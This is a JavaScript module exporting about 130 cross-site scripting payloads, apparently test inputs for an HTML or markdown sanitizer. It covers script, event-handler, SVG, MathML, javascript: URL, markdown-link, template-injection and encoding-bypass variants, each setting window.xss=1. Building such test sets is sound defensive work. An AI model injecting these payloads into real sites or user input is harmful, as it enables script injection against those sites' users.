// Texts that would run, if a page took them for more than text. Each calls or sets `xss` in its own way.
const CALL = 'window.xss=1';
const TAGS = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `</script><script>${CALL}</script>`,
  `<script src=data:text/javascript,${CALL}></script>`, `<script type=module>${CALL}</script>`, `<script\n>${CALL}</script\n>`,
  `<img src=x onerror=${CALL}>`, `<img src=x onerror="${CALL}">`, `<img/src=x/onerror=${CALL}>`, `<IMG SRC=x OnErRoR=${CALL}>`,
  `<img src=x:x onerror=${CALL}//`, `"><img src=x onerror=${CALL}>`, `'><img src=x onerror=${CALL}>`, `\`><img src=x onerror=${CALL}>`,
  `<img srcset=x onerror=${CALL}>`, `<image src=x onerror=${CALL}>`, `<img src onerror=${CALL}>`, `<img src=x onload=${CALL} onerror=${CALL}>`,
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><animate onbegin=${CALL} attributeName=x>`,
  `<svg><a xlink:href="javascript:${CALL}"><text x=1 y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`,
  `<svg><set onbegin=${CALL} attributename=x>`, `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`, `<math href="javascript:${CALL}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:${CALL}">`, `<iframe srcdoc="<script>parent.xss=1</script>">`, `<iframe onload=${CALL}>`,
  `<object data="javascript:${CALL}">`, `<object data="data:text/html,<script>parent.xss=1</script>">`, `<embed src="javascript:${CALL}">`,
  `<body onload=${CALL}>`, `<body onpageshow=${CALL}>`, `<body/onhashchange=${CALL}>`, `<html onmousemove=${CALL}>`, `<base href="javascript:${CALL}//">`,
  `<video src=x onerror=${CALL}>`, `<video><source onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}>`, `<audio autoplay onloadstart=${CALL} src=x>`,
  `<details open ontoggle=${CALL}>`, `<input autofocus onfocus=${CALL}>`, `<select autofocus onfocus=${CALL}>`, `<textarea autofocus onfocus=${CALL}>`,
  `<keygen autofocus onfocus=${CALL}>`, `<button autofocus onfocus=${CALL}>`, `<a autofocus onfocus=${CALL} href=#>x</a>`, `<div tabindex=1 autofocus onfocus=${CALL}>`,
  `<form action="javascript:${CALL}"><input type=submit></form>`, `<form><button formaction="javascript:${CALL}">x</button></form>`, `<isindex action="javascript:${CALL}">`,
  `<marquee onstart=${CALL}>x</marquee>`, `<style onload=${CALL}></style>`, `<style>@import "javascript:${CALL}";</style>`, `<style>*{background:url("javascript:${CALL}")}</style>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`, `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<template><script>${CALL}</script></template>`, `<template shadowrootmode=open><script>${CALL}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`, `<title><img src=x onerror=${CALL}></title>`, `<textarea></textarea><img src=x onerror=${CALL}>`,
  `<table background="javascript:${CALL}">`, `<div style="background:url(javascript:${CALL})">`, `<div style="width:expression(${CALL})">`, `<div onpointerenter=${CALL} style=position:fixed;inset:0>`,
  `<x onclick=${CALL} tabindex=1>x</x>`, `<dialog open onclose=${CALL}>`, `<slot onslotchange=${CALL}>`, `<portal src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`, `<a href="JaVaScRiPt:${CALL}">x</a>`, `<a href="java\tscript:${CALL}">x</a>`, `<a href="&#106;avascript:${CALL}">x</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">x</a>`, `<a href=x ping="javascript:${CALL}">x</a>`, `<area href="javascript:${CALL}">`,
  `<!--><img src=x onerror=${CALL}>-->`, `<!-- --!><img src=x onerror=${CALL}>`, `<![CDATA[<img src=x onerror=${CALL}>]]>`, `<?xml version="1.0"?><script>${CALL}</script>`,
];
const TEXTS = [
  `[x](javascript:${CALL})`, `[x](JAVASCRIPT:${CALL})`, `[x](java\nscript:${CALL})`, `[x](\u0001javascript:${CALL})`, `[x](&#106;avascript:${CALL})`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](vbscript:${CALL})`, `![x](javascript:${CALL})`, `![x"onerror="${CALL}](https://x.example/y.png)`,
  `[x](https://x.example/"onmouseover="${CALL})`, `[<img src=x onerror=${CALL}>](https://x.example)`, `<javascript:${CALL}>`, `<https://x.example/"onclick=${CALL}>`,
  `[x]: javascript:${CALL}\n\n[x]`, `\`\`\`html\n<script>${CALL}</script>\n\`\`\``, `\`<img src=x onerror=${CALL}>\``, `**<img src=x onerror=${CALL}>**`, `# <svg onload=${CALL}>`,
  `- <img src=x onerror=${CALL}>`, `> <img src=x onerror=${CALL}>`, `| a |\n|---|\n| <img src=x onerror=${CALL}> |`,
  '{{constructor.constructor("window.xss=1")()}}', '{{$on.constructor("window.xss=1")()}}', '${window.xss=1}', '<%= window.xss=1 %>', '#{window.xss=1}', '{% raw %}<script>window.xss=1</script>',
  '__proto__[innerHTML]=<img src=x onerror=window.xss=1>', '{"__proto__":{"xss":1}}', '\u202e<script>window.xss=1</script>', '＜script＞window.xss=1＜/script＞', '&lt;script&gt;window.xss=1&lt;/script&gt;', '&#60;script&#62;window.xss=1',
  '\\u003cscript\\u003ewindow.xss=1', '%3Cscript%3Ewindow.xss=1%3C/script%3E', "';window.xss=1;'", '";window.xss=1;"', '`-window.xss=1-`', 'javascript:window.xss=1', '-->]]><script>window.xss=1</script>',
];

export const PAYLOADS = [...TAGS, ...TEXTS];
